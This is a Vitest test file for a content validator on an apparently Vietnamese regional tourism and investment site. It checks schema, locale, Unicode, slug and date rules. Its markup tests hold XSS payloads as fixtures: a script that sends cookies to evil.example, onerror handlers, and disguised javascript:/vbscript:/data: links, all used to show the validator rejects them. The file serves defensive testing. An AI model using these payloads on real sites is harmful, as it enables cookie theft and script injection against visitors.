import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { formatProblem, validateContent } from '../../src/model/validate.ts';

const good = `---
title: Vườn quốc gia Tràm Chim
description: Sân chim lớn của Đồng Tháp, nơi sếu đầu đỏ trở về mỗi mùa khô.
place:
  name: Vườn quốc gia Tràm Chim
  area: tram-chim
coordinates:
  lat: 10.7166
  lng: 105.52
practical:
  gettingThere: Đi xe từ TP. Cao Lãnh khoảng 45 km.
  bestSeason: Tháng 12 đến tháng 5.
  openingHours: 7:00 – 17:00 hằng ngày.
  tickets: 20.000 đồng.
images:
  - src: ../../_media/pic.jpg
    alt: Sếu đầu đỏ trên đồng cỏ năng
---

Nội dung **đúng**.
`;

const incentive = (documentUrl: string) => `---
title: Nghị quyết 296/2019/NQ-HĐND
description: Hỗ trợ đầu tư hạ tầng khu công nghiệp.
legalReference:
  number: 296/2019/NQ-HĐND
  date: "2019-12-11"
  issuer: HĐND tỉnh Đồng Tháp
sectors: [industrial-infrastructure]
coverage: [Hạ tầng khu công nghiệp]
eligibility: [Chủ đầu tư hạ tầng]
support:
  - type: infrastructure
    detail: Hỗ trợ hạ tầng ngoài hàng rào
howToApply: [Nộp hồ sơ tại Sở Kế hoạch và Đầu tư]
documentUrl: ${documentUrl}
---

Nội dung.
`;

let base: string;
let root: string;
const write = (rel: string, text: string) => {
  const file = path.join(root, rel);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
};
const messages = async () => (await validateContent(root)).map(formatProblem);

/** A real JPEG: the build reads a picture's bytes, not its name. */
let jpeg: Buffer;
beforeAll(async () => {
  jpeg = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#2a7' } })
    .jpeg()
    .toBuffer();
});

beforeEach(() => {
  base = mkdtempSync(path.join(tmpdir(), 'project-'));
  root = path.join(base, 'content');
  mkdirSync(path.join(root, '_media'), { recursive: true });
  writeFileSync(path.join(root, '_media/pic.jpg'), jpeg);
  write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', good);
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

describe('validateContent', () => {
  test('a valid tree has no problems', async () => {
    expect(await messages()).toEqual([]);
  });

  test('an incentive linking a document under public/ that is not there is reported', async () => {
    write('incentives/vi/nghi-quyet-296.mdx', incentive('/documents/296-2019.pdf'));
    expect(await messages()).toEqual([
      expect.stringMatching(
        /incentives\/vi\/nghi-quyet-296\.mdx \[locale: vi\] field "documentUrl": "\/documents\/296-2019\.pdf" is not a file under public\//,
      ),
    ]);
    mkdirSync(path.join(base, 'public/documents'), { recursive: true });
    writeFileSync(path.join(base, 'public/documents/296-2019.pdf'), '%PDF-1.4');
    expect(await messages()).toEqual([]);
  });

  test('an incentive document link must be a public/ path or https', async () => {
    write('incentives/vi/nghi-quyet-296.mdx', incentive('http://example.com/296.pdf'));
    const [msg] = await messages();
    expect(msg).toContain('field "documentUrl"');
  });

  test('the handbook slug "book" is reserved for the one-page handbook', async () => {
    write('handbook/vi/book.mdx', '---\ntitle: Sách\ndescription: Mô tả.\norder: 1\n---\n\nNội dung.\n');
    expect(await messages()).toEqual([expect.stringContaining('handbook/vi/book.mdx [locale: vi] field "file": the handbook slug "book" is reserved')]);
  });

  test('a schema violation names the file, the locale and the field', async () => {
    write('destinations/ja/vuon-quoc-gia-tram-chim.mdx', good.replace('area: tram-chim', 'area: atlantis'));
    const [msg, ...rest] = await messages();
    expect(rest).toEqual([]);
    expect(msg).toContain('destinations/ja/vuon-quoc-gia-tram-chim.mdx');
    expect(msg).toContain('[locale: ja]');
    expect(msg).toContain('field "place.area"');
    expect(msg).toContain('"atlantis"');
  });

  test('a missing required field is reported with its path', async () => {
    write('destinations/en/vuon-quoc-gia-tram-chim.mdx', good.replace('  tickets: 20.000 đồng.\n', ''));
    expect((await messages()).join('\n')).toMatch(/\[locale: en\] field "practical\.tickets": .*\(missing\)/);
  });

  test('missing alt text is an error in every locale', async () => {
    write('destinations/ko/vuon-quoc-gia-tram-chim.mdx', good.replace('    alt: Sếu đầu đỏ trên đồng cỏ năng\n', ''));
    expect((await messages()).join('\n')).toMatch(/\[locale: ko\] field "images\[0\]\.alt"/);
  });

  test('a missing image is reported with its path', async () => {
    write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', good.replace('pic.jpg', 'missing.jpg'));
    expect((await messages()).join('\n')).toMatch(/field "images\[0\]\.src": picture file not found: \.\.\/\.\.\/_media\/missing\.jpg/);
  });

  test('malformed and impossible dates are rejected', async () => {
    const festival = (start: string) => `---
title: Lễ hội
description: Mô tả.
dateRule:
  calendar: gregorian
  start: ${start}
place:
  name: Quảng trường
  area: cao-lanh
organizer: UBND tỉnh
---
Body.
`;
    write('festivals/vi/a.mdx', festival('"2026-02-30"'));
    write('festivals/vi/b.mdx', festival('"30/06/2026"'));
    write('festivals/vi/c.mdx', festival('2026-06-20'));
    const all = (await messages()).join('\n');
    expect(all).toMatch(/festivals\/vi\/a\.mdx \[locale: vi\] field "dateRule\.start": is not a real calendar date/);
    expect(all).toMatch(/festivals\/vi\/b\.mdx .*field "dateRule\.start": must be a date in the form "YYYY-MM-DD"/);
    // YAML 1.2 reads an unquoted date as text, so it is as good as a quoted one.
    expect(all).not.toMatch(/festivals\/vi\/c\.mdx.*dateRule/);
  });

  test('NFD-encoded Vietnamese is rejected, naming the field', async () => {
    write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', good.replace('Sếu đầu đỏ trên đồng cỏ năng', 'Sếu đầu đỏ trên đồng cỏ năng'.normalize('NFD')));
    const all = await messages();
    expect(all).toHaveLength(1);
    expect(all[0]).toMatch(/\[locale: vi\] field "images\[0\]\.alt": text is NFD-decomposed/);
  });

  test('NFD text in the body is rejected', async () => {
    write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', good.replace('Nội dung', 'Nội dung'.normalize('NFD')));
    expect(await messages()).toEqual([expect.stringMatching(/field "body": text is NFD-decomposed/)]);
  });

  test('MDX syntax is ordinary text: bodies are Markdown, so nothing there can break the build', async () => {
    write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', `${good}\n<Gallery images={[1, 2}\n\n{process.env.SECRET} and Giá > 1 tỷ < 2 tỷ\n`);
    expect(await messages()).toEqual([]);
  });

  test('duplicate slugs in one locale are rejected', async () => {
    write('destinations/vi/vuon-quoc-gia-tram-chim.md', good);
    expect((await messages()).join('\n')).toMatch(/duplicate slug "vuon-quoc-gia-tram-chim"/);
  });

  test('invalid slugs, unknown locales and collections are rejected', async () => {
    write('destinations/vi/Tràm-Chim.mdx', good);
    write('destinations/jp/vuon-quoc-gia-tram-chim.mdx', good);
    write('blog/vi/x.mdx', good);
    write('pages/vi/en.mdx', good);
    const all = (await messages()).join('\n');
    expect(all).toMatch(/the slug "Tràm-Chim" must be lowercase ASCII/);
    expect(all).toMatch(/unknown locale folder "jp"/);
    expect(all).toMatch(/unknown collection "blog"/);
    expect(all).toMatch(/page slug "en" is a locale code/);
  });

  test('invalid YAML is reported', async () => {
    write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', good.replace('title: Vườn', 'title: [Vườn'));
    expect((await messages()).join('\n')).toMatch(/field "frontmatter": invalid YAML/);
  });

  test('a translation may give only its text: shared values come from the Vietnamese file', async () => {
    write(
      'destinations/en/vuon-quoc-gia-tram-chim.mdx',
      `---
title: Tram Chim National Park
description: The province's great bird sanctuary, where sarus cranes return every dry season.
place:
  name: Tram Chim National Park
practical:
  gettingThere: About 45 km by road from Cao Lanh city.
  bestSeason: December to May.
  openingHours: 7:00 – 17:00 daily.
  tickets: 20,000 dong.
images:
  - alt: Sarus cranes on a sedge meadow
---

Text.
`,
    );
    expect(await messages()).toEqual([]);
  });

  test('a translation without its translated text is reported with its locale and field', async () => {
    write('destinations/ja/vuon-quoc-gia-tram-chim.mdx', '---\ntitle: チャムチム国立公園\nimages:\n  - src: ../../_media/pic.jpg\n---\n\n本文。\n');
    const found = await messages();
    expect(found).toContainEqual(expect.stringMatching(/destinations\/ja\/vuon-quoc-gia-tram-chim\.mdx \[locale: ja\] field "description"/));
    expect(found).toContainEqual(expect.stringMatching(/\[locale: ja\] field "images\[0\]\.alt"/));
    expect(found).toContainEqual(expect.stringMatching(/\[locale: ja\] field "practical"/));
    expect(found.join('\n')).not.toMatch(/coordinates|area/);
  });

  describe('markup that may not be published', () => {
    const file = 'destinations/vi/vuon-quoc-gia-tram-chim.mdx';
    // `good` ends on line 20; after a blank line, the added body text starts on line 22.
    const withBody = (body: string) => write(file, `${good}\n${body}\n`);

    test('a <script> element in the body is reported with its line', async () => {
      withBody('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
      expect(await messages()).toEqual(
        ['destinations/vi/vuon-quoc-gia-tram-chim.mdx [locale: vi] field "body": at line 22: the HTML element <script> is not allowed in content'].map((m) =>
          expect.stringContaining(m),
        ),
      );
    });

    test('an inline event handler is named before the element it sits on', async () => {
      withBody('<img src=x onerror=alert(1)>');
      expect(await messages()).toEqual([
        expect.stringMatching(/\[locale: vi\] field "body": at line 22: the event-handler attribute "onerror" on <img> is not allowed/),
      ]);
    });

    test('javascript:, vbscript: and data: addresses are refused however disguised', async () => {
      for (const link of [
        '[Bản đồ](javascript:alert(1))',
        '[Bản đồ](JaVa&#09;ScRiPt:alert(1))',
        '[Bản đồ](&#106;avascript:alert(1))',
        '<a href="vbscript:x">x</a>',
        '<a href="&#x6A;avascript:x">x</a>',
        '[Tải](data:text/html,x)',
      ]) {
        withBody(link);
        const all = await messages();
        expect(all, link).toHaveLength(1);
        expect(all[0], link).toMatch(/\[locale: vi\] field "body": (at line 22: )?the address "[^"]*(script|data)[^"]*" \(href on <a>\) is not allowed/i);
      }
    });

    test('a javascript: address in a link field is reported with the field', async () => {
      write(
        'products/vi/tra-sen.mdx',
        `---
title: Trà sen
description: Trà ướp sen.
category: beverages
stars: 4
year: 2023
producer:
  name: HTX Sen
  website: "java\tscript:alert(1)"
images:
  - src: ../../_media/pic.jpg
    alt: Trà sen
---

Nội dung.
`,
      );
      const all = (await messages()).join('\n');
      expect(all).toMatch(/products\/vi\/tra-sen\.mdx \[locale: vi\] field "producer\.website": must be a web address starting with https:\/\/ or http:\/\//);
    });

    test('markup in frontmatter text is text: Astro escapes it, so it builds', async () => {
      write(
        file,
        good
          .replace('alt: Sếu đầu đỏ trên đồng cỏ năng', 'alt: "Sếu <img src=x onerror=alert(1)> > 1 tỷ"')
          .replace('title: Vườn quốc gia Tràm Chim', 'title: <SCRIPT>alert(1)</SCRIPT> & "Tràm Chim"'),
      );
      expect(await messages()).toEqual([]);
    });

    test('raw HTML in a .md file is checked too', async () => {
      write('destinations/vi/vuon-quoc-gia-tram-chim.md', good.replace('Nội dung **đúng**.', '<div>\n<script>alert(1)</script>\n</div>'));
      write(file, good);
      const all = await messages();
      expect(all).toContainEqual(
        expect.stringMatching(
          /destinations\/vi\/vuon-quoc-gia-tram-chim\.md \[locale: vi\] field "body": at line 21: the HTML element <script> is not allowed/,
        ),
      );
    });

    test('prose about JavaScript, code samples, escaped markup and inline tags editors use pass', async () => {
      withBody(
        [
          'JavaScript: trang web dùng kịch bản (script) để vẽ bản đồ; javascript:void(0) chỉ là chữ.',
          '',
          'Mã mẫu: `<script>alert(1)</script>` và `onerror=`.',
          '',
          '```html',
          '<img src=x onerror=alert(1)>',
          '```',
          '',
          'CMS ghi \\<script> và \\{ngoặc\\} như chữ thường; [trang](https://example.org/javascript/).',
          '',
          'Diện tích 50 m<sup>2</sup>, CO<sub>2</sub>, <abbr title="Khu công nghiệp">KCN</abbr> <span lang="en">Sa Dec</span>.',
        ].join('\n'),
      );
      expect(await messages()).toEqual([]);
    });
  });

  test('the real demo content is valid', async () => {
    // Reads the project's content without touching `root`, which afterEach deletes.
    expect((await validateContent(path.resolve('content'))).map(formatProblem)).toEqual([]);
  });
});
